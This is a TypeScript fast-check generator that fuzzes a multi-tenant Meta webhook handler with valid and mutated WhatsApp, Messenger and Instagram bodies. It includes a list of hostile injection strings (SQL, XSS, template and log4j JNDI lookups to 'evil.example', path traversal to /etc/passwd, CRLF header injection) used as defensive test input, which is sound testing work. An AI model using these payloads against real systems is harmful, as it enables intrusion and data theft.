import fc from 'fast-check';
import {
  encodeMetaBody,
  instagramMessageBody,
  messengerMessageBody,
  whatsappMessageBody,
  whatsappStatusBody,
} from '../dev/meta-payloads';
import type { TenantFixture } from '../test/fixtures';

/**
 * The webhook fuzzer's generator: bodies shaped by Meta's schemas (built with dev/meta-payloads),
 * then mutated the ways the issue lists. Each case says what the app must make of it when it is
 * correctly signed, so the probe can count what was lost:
 * - `processed`: a valid message for one of our accounts; its provider id must be stored once;
 * - `dead`: nothing in it is usable (not JSON, not Meta's, an unknown account); it must be kept
 *   as a dead event with its reason;
 * - `any`: a mutation the app may take or refuse; it must answer below 500 and keep the body.
 */
export type Expectation = 'processed' | 'dead' | 'any';

export type FuzzCase = {
  raw: string | Uint8Array;
  /** What was done to the body, for the counts by outcome. */
  kind: string;
  expect: Expectation;
  /** Provider message ids a processed body must have stored, each once. */
  messageIds: string[];
  /** The tenant whose number the body names, when a mismatched WABA names another tenant's. */
  numberOwner?: string;
};

/** Strings aimed at whatever reads the text later: SQL, HTML, templates, logs, paths, headers. */
export const INJECTIONS = [
  "'; drop table messages; --",
  "' or '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection, literally
  '{{7*7}}${7*7}#{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup, literally
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'line\r\nX-Injected: yes',
  '%00%0d%0a',
  '\\u0000 literally',
  '$where: function() { return true }',
  '{"$gt": ""}',
  'javascript:alert(1)',
  '\u202eevil\u202c',
  'a\u0000b',
] as const;

const UNICODE = [
  '😀👍🏽',
  'مرحبا بك',
  'שלום',
  '你好，世界',
  'Ünïcödé ñ',
  '\ud800 lone high surrogate',
  '\udfff lone low surrogate',
  'zero\u200bwidth',
  '𝕳𝖊𝖑𝖑𝖔',
  '\u0007bell\u001bescape',
] as const;

const BAD_TIMESTAMPS = [
  '99999999999999',
  '-1',
  '0',
  '1e9',
  'NaN',
  '',
  ' 1700000000',
  '17000000000000000000000',
  1e20,
  -5,
  null,
  // Ten years ahead and 1970.
  String(Math.floor(Date.now() / 1000) + 10 * 365 * 86400),
  '1',
] as const;

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/** Every path into a JSON value (object keys and array indexes), the root included. */
function pathsOf(
  value: Json,
  prefix: Array<string | number> = [],
  out: Array<Array<string | number>> = [],
) {
  out.push(prefix);
  if (Array.isArray(value)) {
    for (const [i, v] of value.entries()) pathsOf(v, [...prefix, i], out);
  } else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) pathsOf(v, [...prefix, k], out);
  }
  return out;
}

/** A copy of `root` with the value at `path` replaced (or removed when `replace` gives undefined). */
function edit(
  root: Json,
  path: Array<string | number>,
  replace: (old: Json) => Json | undefined,
): Json {
  if (path.length === 0) return replace(root) ?? null;
  const [head, ...rest] = path as [string | number, ...Array<string | number>];
  if (Array.isArray(root)) {
    const copy = [...root];
    const next =
      rest.length === 0
        ? replace(copy[head as number] as Json)
        : edit(copy[head as number] as Json, rest, replace);
    if (next === undefined) copy.splice(head as number, 1);
    else copy[head as number] = next;
    return copy;
  }
  if (root && typeof root === 'object') {
    const copy = { ...root };
    const next =
      rest.length === 0 ? replace(copy[head] as Json) : edit(copy[head] as Json, rest, replace);
    if (next === undefined) delete copy[head];
    else copy[head] = next;
    return copy;
  }
  return root;
}

/** Replaces the value of every key named `key`, anywhere. */
function setEverywhere(root: Json, key: string, value: Json): Json {
  if (Array.isArray(root)) return root.map((v) => setEverywhere(v, key, value));
  if (root && typeof root === 'object') {
    return Object.fromEntries(
      Object.entries(root).map(([k, v]) => [k, k === key ? value : setEverywhere(v, key, value)]),
    );
  }
  return root;
}

/** Replaces the string values of the keys named, anywhere (objects under those keys are kept). */
function setStrings(root: Json, keys: string[], value: string): Json {
  if (Array.isArray(root)) return root.map((v) => setStrings(v, keys, value));
  if (root && typeof root === 'object') {
    return Object.fromEntries(
      Object.entries(root).map(([k, v]) => [
        k,
        keys.includes(k) && typeof v === 'string' ? value : setStrings(v, keys, value),
      ]),
    );
  }
  return root;
}

const digits = (n: number) => fc.stringMatching(new RegExp(`^[1-9]\\d{${n - 1}}$`));
const wild: fc.Arbitrary<Json> = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.constant<Json>([]),
  fc.constant<Json>({}),
  fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
);

/** A valid body for one of the tenants' accounts: a text message on one of the three channels. */
function validBody(tenants: TenantFixture[], counter: () => number) {
  return fc
    .record({
      tenant: fc.constantFrom(...tenants),
      channel: fc.constantFrom('whatsapp', 'messenger', 'instagram'),
      text: fc.oneof(
        { arbitrary: fc.string({ minLength: 1, maxLength: 120 }), weight: 4 },
        { arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }), weight: 2 },
        { arbitrary: fc.constantFrom(...INJECTIONS), weight: 2 },
      ),
      name: fc.string({ maxLength: 30 }),
      customer: digits(11),
      ageSeconds: fc.integer({ min: 0, max: 3 * 86400 }),
    })
    .map(({ tenant, channel, text, name, customer, ageSeconds }) => {
      const n = counter();
      const seconds = Math.floor(Date.now() / 1000) - ageSeconds;
      if (channel === 'whatsapp') {
        const id = `wamid.RELIABILITY${n}`;
        const body = whatsappMessageBody({
          wabaId: tenant.accounts.whatsapp.wabaId,
          phoneNumberId: tenant.accounts.whatsapp.externalId,
          displayPhoneNumber: tenant.accounts.whatsapp.phone,
          from: customer,
          id,
          name,
          timestamp: seconds,
          message: { type: 'text', text },
        });
        return { body: body as unknown as Json, id, tenant, channel };
      }
      const mid = `m_RELIABILITY${n}`;
      const options = { psid: customer, igsid: customer, mid, text, timestamp: seconds * 1000 };
      const body =
        channel === 'messenger'
          ? messengerMessageBody({ pageId: tenant.accounts.messenger.externalId, ...options })
          : instagramMessageBody({ igId: tenant.accounts.instagram.externalId, ...options });
      return { body: body as unknown as Json, id: mid, tenant, channel };
    });
}

/**
 * The generator. `counter` numbers the bodies' message ids, so every valid message is distinct
 * and its storage can be checked by id.
 */
export function fuzzCases(
  tenants: [TenantFixture, TenantFixture, ...TenantFixture[]],
): fc.Arbitrary<FuzzCase> {
  let n = 0;
  const counter = () => n++;
  const [a, b] = tenants;
  const valid = validBody(tenants, counter);
  const json = (value: Json) => encodeMetaBody(value);

  const pristine = valid.map(
    ({ body, id }): FuzzCase => ({
      raw: json(body),
      kind: 'valid',
      expect: 'processed',
      messageIds: [id],
    }),
  );
  const plainJson = valid.map(
    ({ body, id }): FuzzCase => ({
      // Not Meta's escaping: the signature is over these bytes, so it must still be accepted.
      raw: JSON.stringify(body),
      kind: 'valid-unescaped',
      expect: 'processed',
      messageIds: [id],
    }),
  );
  const unicode = fc.tuple(valid, fc.constantFrom(...UNICODE)).map(
    ([{ body, id }, text]): FuzzCase => ({
      // The customer's words and name (WhatsApp's `text.body`, Messenger's `text`), sent with
      // Meta's \uXXXX escapes: lone surrogates and control characters are text like any other.
      raw: json(setStrings(body, ['text', 'body', 'name'], text)),
      kind: 'unicode-escapes',
      expect: 'processed',
      messageIds: [id],
    }),
  );
  const mutatedType = fc.tuple(valid, fc.nat(), wild).map(([{ body }, pick, value]): FuzzCase => {
    const paths = pathsOf(body).slice(1);
    const path = paths[pick % paths.length] ?? [];
    return {
      raw: json(edit(body, path, () => value)),
      kind: 'mutated-type',
      expect: 'any',
      messageIds: [],
    };
  });
  const missing = fc.tuple(valid, fc.nat()).map(([{ body }, pick]): FuzzCase => {
    const paths = pathsOf(body).slice(1);
    const path = paths[pick % paths.length] ?? [];
    return {
      raw: json(edit(body, path, () => undefined)),
      kind: 'missing-field',
      expect: 'any',
      messageIds: [],
    };
  });
  const extra = fc
    .tuple(
      valid,
      fc.nat(),
      fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), wild, { minKeys: 1, maxKeys: 4 }),
    )
    .map(([{ body, id }, pick, fields]): FuzzCase => {
      // Extra fields go into objects only; Meta adds fields over time and they must be ignored.
      const objects = pathsOf(body).filter((p) => {
        let v: Json = body;
        for (const k of p) v = (v as Record<string, Json>)[k as string] as Json;
        return v !== null && typeof v === 'object' && !Array.isArray(v);
      });
      const path = objects[pick % objects.length] ?? [];
      const raw = json(
        edit(body, path, (old) => ({
          ...(fields as Record<string, Json>),
          ...(old as Record<string, Json>),
        })),
      );
      return { raw, kind: 'extra-fields', expect: 'processed', messageIds: [id] };
    });
  const huge = fc
    .tuple(
      valid,
      fc.constantFrom(10_000, 100_000, 500_000, 1_100_000),
      fc.constantFrom('text', 'name', 'id', 'mid'),
    )
    .map(([{ body }, length, key]): FuzzCase => {
      // Past 1 MiB the app-wide body limit answers 413 (not a 5xx, and Meta never sends one).
      const raw = json(setEverywhere(body, key, 'x'.repeat(length)));
      const kind = raw.length > 1024 * 1024 ? 'huge-string-over-1MiB' : 'huge-string';
      return { raw, kind, expect: 'any', messageIds: [] };
    });
  const deep = fc
    .tuple(valid, fc.constantFrom(10, 63, 65, 500, 5_000, 20_000))
    .map(([{ body, id }, depth]): FuzzCase => {
      // A nested extra field: the real message next to it is still stored however deep it goes.
      const nest = `${'['.repeat(depth)}1${']'.repeat(depth)}`;
      const raw = json(body).replace(/^\{/, `{"nested":${nest},`);
      return { raw, kind: 'deep-nesting', expect: 'any', messageIds: [id] };
    });
  const duplicateKeys = fc
    .tuple(valid, fc.constantFrom('first', 'last'))
    .map(([{ body, id }, which]): FuzzCase => {
      const text = json(body);
      // JSON.parse keeps the last of duplicate keys. `first`: a bogus duplicate before the real key
      // (the real one wins, the message is stored); `last`: an empty entry list after it.
      const raw =
        which === 'first'
          ? text.replace(/^\{/, '{"entry":[],"object":"nothing",')
          : text.replace(/\}$/, ',"entry":[]}');
      return {
        raw,
        kind: `duplicate-keys-${which}`,
        expect: which === 'first' ? 'processed' : 'any',
        messageIds: which === 'first' ? [id] : [],
      };
    });
  const unknownAccount = fc
    .tuple(valid, digits(15))
    .map(([{ body, tenant, channel }, unknown]): FuzzCase => {
      const ours = tenant.accounts[channel as 'whatsapp'].externalId;
      const raw = json(body).replaceAll(ours, unknown);
      return { raw, kind: 'unknown-account', expect: 'dead', messageIds: [] };
    });
  const mismatched = fc
    .tuple(digits(11), fc.string({ maxLength: 40 }))
    .map(([customer, text]): FuzzCase => {
      const id = `wamid.RELIABILITY${counter()}`;
      // Tenant A's WABA naming tenant B's number: refused (dead with the reason), so it reaches
      // neither business.
      const body = whatsappMessageBody({
        wabaId: a.accounts.whatsapp.wabaId,
        phoneNumberId: b.accounts.whatsapp.externalId,
        displayPhoneNumber: b.accounts.whatsapp.phone,
        from: customer,
        id,
        message: { type: 'text', text },
      });
      return {
        raw: json(body as unknown as Json),
        kind: 'mismatched-account',
        expect: 'dead',
        messageIds: [],
        numberOwner: b.tenantId,
      };
    });
  const timestamp = fc.tuple(valid, fc.constantFrom(...BAD_TIMESTAMPS)).map(
    ([{ body }, value]): FuzzCase => ({
      raw: json(setEverywhere(body, 'timestamp', value)),
      kind: 'out-of-range-timestamp',
      expect: 'any',
      messageIds: [],
    }),
  );
  const injectionIds = fc
    .tuple(
      valid,
      fc.constantFrom(...INJECTIONS),
      fc.constantFrom('id', 'mid', 'from', 'wa_id', 'object', 'field'),
    )
    .map(
      ([{ body }, value, key]): FuzzCase => ({
        raw: json(setEverywhere(body, key, value)),
        kind: 'injection-in-ids',
        expect: 'any',
        messageIds: [],
      }),
    );
  const garbage = fc
    .oneof(
      fc.string({ maxLength: 200 }).filter((s) => {
        try {
          JSON.parse(s);
          return false;
        } catch {
          return true;
        }
      }),
      fc
        .uint8Array({ minLength: 1, maxLength: 300 })
        .map((bytes) => Uint8Array.from([0xff, ...bytes])),
      fc.constantFrom(
        'null',
        '[]',
        '42',
        '"text"',
        'true',
        '{}',
        '{"object":"page"}',
        '{"object":"user","entry":[{}]}',
      ),
    )
    .map((raw): FuzzCase => ({ raw, kind: 'not-meta', expect: 'dead', messageIds: [] }));
  const status = fc.tuple(fc.constantFrom(...tenants), digits(11)).map(
    ([t, customer]): FuzzCase => ({
      raw: json(
        whatsappStatusBody({
          wabaId: t.accounts.whatsapp.wabaId,
          phoneNumberId: t.accounts.whatsapp.externalId,
          displayPhoneNumber: t.accounts.whatsapp.phone,
          messageId: `wamid.NEVERSENT${counter()}`,
          status: 'delivered',
          recipientId: customer,
        }) as unknown as Json,
      ),
      kind: 'status-of-unknown-message',
      expect: 'any',
      messageIds: [],
    }),
  );

  return fc.oneof(
    { arbitrary: pristine, weight: 6 },
    { arbitrary: plainJson, weight: 1 },
    { arbitrary: unicode, weight: 2 },
    { arbitrary: mutatedType, weight: 4 },
    { arbitrary: missing, weight: 3 },
    { arbitrary: extra, weight: 2 },
    { arbitrary: huge, weight: 1 },
    { arbitrary: deep, weight: 1 },
    { arbitrary: duplicateKeys, weight: 1 },
    { arbitrary: unknownAccount, weight: 2 },
    { arbitrary: mismatched, weight: 1 },
    { arbitrary: timestamp, weight: 2 },
    { arbitrary: injectionIds, weight: 2 },
    { arbitrary: garbage, weight: 2 },
    { arbitrary: status, weight: 1 },
  );
}
